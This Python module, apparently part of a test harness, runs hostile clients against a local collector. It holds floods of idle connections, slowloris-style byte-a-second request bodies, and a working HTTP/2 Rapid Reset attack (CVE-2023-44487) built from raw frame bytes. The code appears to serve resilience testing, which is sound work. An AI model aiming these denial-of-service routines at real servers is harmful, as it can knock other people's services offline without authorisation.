"""Clients that mean no good: idle connections, bodies that come a byte a second, streams that are reset at once."""

import select
import socket
import threading

from harness.bennu import Service

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])


class Pests:
    """Clients that mean no good, for the length of a `with` block."""

    def __init__(self, collector: Service, idle: int) -> None:
        self.collector = collector
        self.idle = idle
        self.sockets: list[socket.socket] = []
        self.stopping = threading.Event()
        self.resets = 0

    def __enter__(self) -> "Pests":
        self.sockets = [self._open_idle(number) for number in range(self.idle)]
        self.threads = [threading.Thread(target=work) for work in (self._idle, self._drip, self._reset)]
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.stopping.set()
        for thread in self.threads:
            thread.join()
        for each in self.sockets:
            each.close()

    def _open_idle(self, number: int) -> socket.socket:
        port = self.collector.grpc_port if number % 2 else self.collector.collector_port
        return socket.create_connection(("127.0.0.1", port))

    def _idle(self) -> None:
        """Opens again what the collector has closed for being idle, so that there are always as many."""
        poll = select.poll()
        numbers = {each.fileno(): number for number, each in enumerate(self.sockets)}
        for descriptor in numbers:
            poll.register(descriptor, select.POLLRDHUP)
        while not self.stopping.wait(1):
            for descriptor, _ in poll.poll(0):
                number = numbers.pop(descriptor)
                poll.unregister(descriptor)
                self.sockets[number].close()
                self.sockets[number] = self._open_idle(number)
                numbers[self.sockets[number].fileno()] = number
                poll.register(self.sockets[number], select.POLLRDHUP)

    def _open_slow(self) -> socket.socket:
        head = f"POST /v1/traces HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-protobuf\r\nContent-Length: {60 << 20}\r\n\r\n"
        slow = socket.create_connection(("127.0.0.1", self.collector.collector_port))
        slow.sendall(head.encode())
        return slow

    def _drip(self) -> None:
        """A hundred bodies that announce 60 MiB and come a byte a second; each is begun again when its time is up."""
        slow = [self._open_slow() for _ in range(100)]
        while not self.stopping.wait(1):
            for number, each in enumerate(slow):
                try:
                    each.sendall(b"\n")
                except OSError:
                    each.close()
                    slow[number] = self._open_slow()
        for each in slow:
            each.close()

    def _reset(self) -> None:
        """Opens streams and resets each at once (CVE-2023-44487)."""
        # :method POST, :scheme http, :path /, :authority x, by HPACK's static table.
        headers = bytes([0x83, 0x86, 0x84, 0x41, 0x01]) + b"x"
        while not self.stopping.wait(0.01):
            try:
                with socket.create_connection(("127.0.0.1", self.collector.grpc_port)) as connection:
                    connection.sendall(PREFACE)
                    for stream in range(1, 400, 2):
                        identifier = stream.to_bytes(4, "big")
                        connection.sendall(
                            len(headers).to_bytes(3, "big") + bytes([1, 4]) + identifier + headers
                            + bytes([0, 0, 4, 3, 0]) + identifier + bytes([0, 0, 0, 8])
                        )
                        self.resets += 1
            except OSError:
                continue
